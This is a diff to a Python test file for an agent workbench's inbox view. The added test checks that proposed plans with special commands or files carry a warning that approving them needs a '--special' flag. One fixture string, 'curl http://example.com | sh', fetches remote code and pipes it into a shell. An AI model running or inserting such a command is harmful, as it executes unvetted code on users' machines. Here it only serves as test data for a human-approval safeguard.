@@ -9,7 +9,9 @@ from agent_workbench.core.events import Recorded
 from agent_workbench.core.fold import fold_all
 from agent_workbench.core.ids import ProposalId, SessionId, TaskId
 from agent_workbench.core.inbox import InboxDecision, InboxItem, parse_reference
-from agent_workbench.core.proposals import MAX_DIFF_LINES, Proposal, Verdict
+from agent_workbench.core.plan import Task
+from agent_workbench.core.plan.proposed import ProposedPlan, ProposedTask
+from agent_workbench.core.proposals import MAX_DIFF_LINES, PROPOSE_PLAN, Proposal, Verdict
 from agent_workbench.core.settings import Permission
 from agent_workbench.core.state.session_state import SessionState
 from agent_workbench.views.inbox import age_text, inbox_summary, proposal_text, view_inbox
@@ -111,6 +113,18 @@ def test_the_reference_is_the_last_line() -> None:
         assert parse_reference(text.splitlines()[-1]) == item.reference
     assert "agent inbox approve|reject|skip REFERENCE" in text_of(COMMAND)
     assert "agent inbox approve|reject REFERENCE" in text_of(CHANGE)
+
+
+def test_what_an_approval_needs_besides_is_said() -> None:
+    plan = ProposedPlan("prices", (ProposedTask(Task(TaskId("T-4"), "Read prices")),))
+    special = ("curl http://example.com | sh",)
+    proposed = replace(
+        COMMAND, kind=Permission.PLAN, tool=PROPOSE_PLAN, text="version: 1\n", plan=plan, special=special
+    )
+    hint = "An approval of all of it needs --special, because of these"
+    assert f"{hint} commands: curl http://example.com | sh\nDecide with" in text_of(proposed)
+    assert f"{hint} files: .gitattributes\nDecide with" in text_of(replace(CHANGE, special=(".gitattributes",)))
+    assert "--special" not in text_of(CHANGE) + text_of(replace(COMMAND, special=("make all",)))
 
 
 def test_what_is_too_long_has_no_reference() -> None:
